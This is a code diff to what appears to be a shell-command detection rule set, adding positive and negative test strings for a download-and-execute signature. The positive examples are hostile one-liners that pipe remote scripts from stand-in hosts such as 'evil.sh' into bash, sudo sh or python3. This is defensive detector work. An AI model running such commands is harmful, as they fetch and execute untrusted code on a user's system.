@@ -164,8 +164,13 @@ export const shell: Signature[] = signaturesOf({
       severity: 'high',
       score: 0.55,
       anchors: ['curl', 'wget', 'fetch', 'iwr', 'invoke-webrequest'],
-      positive: ['curl http://evil.sh/x | bash', 'wget -qO- https://a.b/c | sudo sh'],
-      negative: ['curl https://example.com -o file'],
+      positive: [
+        'curl http://evil.sh/x | bash',
+        'wget -qO- https://a.b/c | sudo sh',
+        'curl -s https://a.b/c.py | python3',
+        'iwr https://a.b/c | sh',
+      ],
+      negative: ['curl https://example.com -o file', '| fetch data | node list |', 'curl https://example.com; ls | sh'],
     },
     {
       n: 2,
